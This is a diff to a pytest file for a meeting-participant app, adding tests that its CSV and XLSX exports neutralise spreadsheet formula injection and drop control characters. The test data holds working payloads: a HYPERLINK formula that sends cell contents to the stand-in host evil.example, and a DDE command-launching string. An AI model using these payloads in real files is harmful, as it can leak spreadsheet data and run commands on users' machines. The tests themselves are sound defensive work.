@@ -1,4 +1,5 @@
 """Exports: the import's columns, NIP as text, and a clean round trip into another meeting."""
+import csv
 import io
 
 import pytest
@@ -8,7 +9,7 @@ from rakor.extensions import db
 from rakor.participants import exports, imports
 from rakor.participants.services import cancel_participant, clean_participant, register_participant
 from tests.factories import make_meeting, make_quota
-from tests.participants.test_import_helpers import agency_of, kalsel  # noqa: F401
+from tests.helpers import agency_of
 
 pytestmark = pytest.mark.usefixtures("kalsel")
 
@@ -91,3 +92,66 @@ def test_export_pages_access(client, login_as):
     assert client.get(f"/meetings/{meeting.id}/participants/export.csv").status_code == 200
     login_as("delegate", agency=agency_of("63.02"))
     assert client.get(f"/meetings/{meeting.id}/participants/export.csv").status_code == 403
+
+
+# --- formula injection and characters a workbook cannot hold (issue 8, defects 3 and 4) -------
+
+# (A leading tab or carriage return cannot reach a participant field: the services strip it.
+# tests/core/test_tabular.py covers them.)
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+
+
+def hostile_meeting():
+    meeting = make_meeting(organizer=agency_of("63"))
+    for i, text in enumerate(FORMULAS):
+        register(meeting, "63.02", name=f"Peserta {i}", position=text)
+    register(meeting, "63.02", name="=HYPERLINK(\"http://evil.example\")")
+    return meeting
+
+
+def test_csv_export_neutralises_every_cell_that_starts_a_formula():
+    meeting = hostile_meeting()
+    rows = list(csv.reader(io.StringIO(exports.export(meeting.id, "csv").decode("utf-8-sig"), newline="")))
+    positions = {r[0]: r[2] for r in rows[1:]}
+    for i, text in enumerate(FORMULAS):
+        assert positions[f"Peserta {i}"] == "'" + text
+    assert "'=HYPERLINK(\"http://evil.example\")" in positions
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+def test_xlsx_export_writes_formulas_as_quoted_text_never_as_formulas():
+    meeting = hostile_meeting()
+    ws = load_workbook(io.BytesIO(exports.export(meeting.id, "xlsx"))).active
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    positions = {row[0].value: row[2].value for row in ws.iter_rows(min_row=2)}
+    for i, text in enumerate(FORMULAS):
+        assert positions[f"Peserta {i}"] == "'" + text
+    assert "'=HYPERLINK(\"http://evil.example\")" in positions
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_names_starting_with_a_formula_character_round_trip_as_typed(fmt):
+    source = make_meeting(organizer=agency_of("63"))
+    typed = [("-Ahmad", "-"), ("=Budi", "+Kepala"), ("@Cici", "Staf"), ("Dedi", "-5")]
+    for name, position in typed:
+        register(source, "63.02", name=name, position=position)
+    content = exports.export(source.id, fmt)
+    target = make_meeting(organizer=agency_of("63"))
+    report = imports.preview(target, content, f"peserta.{fmt}", 100)
+    assert report.ok, report.problems()
+    assert sorted((r.data.name, r.data.position) for r in report.rows) == sorted(typed)
+    imports.commit(target, report)
+    assert exports.export(target.id, "csv") == exports.export(source.id, "csv")
+
+
+def test_xlsx_export_drops_characters_a_workbook_cannot_hold(client, login_as):
+    """A name with ESC (typed before input cleaning existed) made the export answer 500."""
+    meeting = make_meeting(organizer=agency_of("63"))
+    register(meeting, "63.02", name="Budi\x1bSantoso", position="Kepala\x01Bidang")
+    ws = load_workbook(io.BytesIO(exports.export(meeting.id, "xlsx"))).active
+    assert [ws["A2"].value, ws["C2"].value] == ["BudiSantoso", "KepalaBidang"]
+    db.session.commit()
+    login_as("committee")
+    response = client.get(f"/meetings/{meeting.id}/participants/export.xlsx")
+    assert response.status_code == 200 and response.data[:2] == b"PK"
